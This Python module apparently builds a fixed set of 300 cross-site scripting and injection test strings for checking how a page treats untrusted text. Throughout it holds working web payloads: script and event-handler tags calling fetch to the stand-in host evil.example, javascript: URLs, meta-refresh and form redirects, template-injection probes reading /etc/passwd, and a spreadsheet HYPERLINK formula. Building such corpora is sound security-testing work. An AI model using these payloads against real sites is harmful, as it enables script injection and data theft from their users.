"""Texts that become scripts, requests or markup on a page that trusts them: 300, each another.

Each calls `ran`, or asks for an address, or leaves the element that it stands in.
"""

from __future__ import annotations

import random
from collections.abc import Callable
from itertools import cycle, islice, product

CALL = "window.ran=1;alert(1);fetch('https://evil.example/x')"
AT = "https://evil.example/x"

WAYS_OUT = (
    '">', "'>", "</p>", "</pre></details>", "</title>", "</style>", "</script>", "</textarea>", "</svg>",
    "</mark></div>", "-->", "]]>", "</desc></svg>", "</summary>", "</li></ol>", "</template>", "</noscript>",
)  # fmt: skip
"""Ends of what a text may stand in."""

ELEMENTS = (
    f"<script>{CALL}</script>",
    f"<script src={AT}></script>",
    f"<ScRiPt\n>{CALL}</sCrIpT >",
    f"<img src=x onerror=\"{CALL}\">",
    f"<img src={AT}>",
    f"<image/src/onerror={CALL}>",
    f"<svg onload=\"{CALL}\">",
    f"<svg><script>{CALL}</script></svg>",
    f"<svg><animate onbegin=\"{CALL}\" attributeName=x dur=1s>",
    f"<svg><use href={AT}#x /></svg>",
    f"<svg><image href={AT} /></svg>",
    f"<math><mtext><img src=x onerror=\"{CALL}\">",
    f"<body onload=\"{CALL}\">",
    f"<body onpageshow=\"{CALL}\">",
    f"<details open ontoggle=\"{CALL}\">",
    f"<input autofocus onfocus=\"{CALL}\">",
    f"<select autofocus onfocus=\"{CALL}\">",
    f"<video><source onerror=\"{CALL}\">",
    f"<video poster={AT}></video>",
    f"<audio src=x onerror=\"{CALL}\">",
    f"<iframe srcdoc=\"<script>{CALL}</script>\"></iframe>",
    f"<iframe src=\"javascript:{CALL}\"></iframe>",
    f"<iframe src={AT}></iframe>",
    f"<object data=\"javascript:{CALL}\"></object>",
    f"<object data={AT}></object>",
    f"<embed src={AT}>",
    f"<link rel=stylesheet href={AT}>",
    f"<link rel=prefetch href={AT}>",
    f"<link rel=dns-prefetch href={AT}>",
    f"<style>@import '{AT}';</style>",
    f"<style>*{{background:url({AT})}}</style>",
    f"<div style=\"background:url({AT})\">",
    f"<p style=\"animation:x\" onanimationstart=\"{CALL}\">",
    f"<meta http-equiv=refresh content=\"0;url={AT}\">",
    "<meta http-equiv=refresh content=\"0;url=data:text/html,<script>alert(1)</script>\">",
    f"<base href={AT}/>",
    f"<form action={AT}><button autofocus>go</button></form><script>document.forms[0].submit()</script>",
    f"<a href=\"javascript:{CALL}\" autofocus>go</a>",
    f"<a href={AT} ping={AT}>go</a>",
    f"<marquee onstart=\"{CALL}\">x</marquee>",
    f"<x onfocus=\"{CALL}\" tabindex=1 autofocus>",
    f"<template><script>{CALL}</script></template>",
    f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
    f"<table background={AT}><tr><td>",
    f"<xmp><p title=\"</xmp><img src=x onerror={CALL}>\">",
)  # fmt: skip
"""What would do something."""

ATTRIBUTES = (
    f"\" onmouseover=\"{CALL}\" x=\"", f"' onfocus='{CALL}' autofocus='", f" onload={CALL} ",
    f"\" style=\"background:url({AT})\" x=\"", f"`onerror={CALL}`", f"x\" autofocus onfocus=\"{CALL}\" \"",
    f"\"/><animate onbegin=\"{CALL}\" x=\"", f"javascript:{CALL}", f"data:text/html,<script>{CALL}</script>", AT,
)  # fmt: skip
"""What would end an attribute."""

OTHERS = (
    "{{ 7 * 7 }}", "{% include '/etc/passwd' %}", "{{ ''.__class__.__mro__ }}", "${7*7}", "#{7*7}", "<%= 7 * 7 %>",
    f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;script&#62;{CALL}&#60;/script&#62;", f"\\u003cscript\\u003e{CALL}",
    f"\"}};{CALL};//", f"';{CALL};//", f"*/{CALL}/*", f"</script><script>{CALL}//", "<!--", "<!--<script>",
    "<![CDATA[<script>", "<textarea>", "<plaintext>", "<title>", "<style>", "</body></html>", "<?xml version='1.0'?>",
    "\u2028alert(1)\u2029", "\u202e<script>", "\ufeff<script>", "\x1b]8;;https://evil.example\x07x", "%3Cscript%3E",
    "__proto__", "constructor", "toString", "=HYPERLINK(\"https://evil.example\")", "NaN", "-1", "1e999", "\\", "'", '"',
)  # fmt: skip
"""Those that look like data of templates, scripts and files."""


DISGUISES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\u200b<"),
    lambda text: f"Nils sold the boat. {text} Ada bought it.",
)


def payloads(n: int = 300) -> list[str]:
    """So many, the same each time: all of the lists, then ways out before elements, disguised in turn."""
    pairs = [f"{out}{element}" for out, element in product(WAYS_OUT, ELEMENTS)]
    random.Random(0).shuffle(pairs)
    disguised = (hide(text) for hide, text in zip(cycle(DISGUISES), pairs, strict=False))
    n_pairs = n - len(ELEMENTS) - len(ATTRIBUTES) - len(OTHERS)
    return [*ELEMENTS, *ATTRIBUTES, *islice(disguised, n_pairs), *OTHERS]
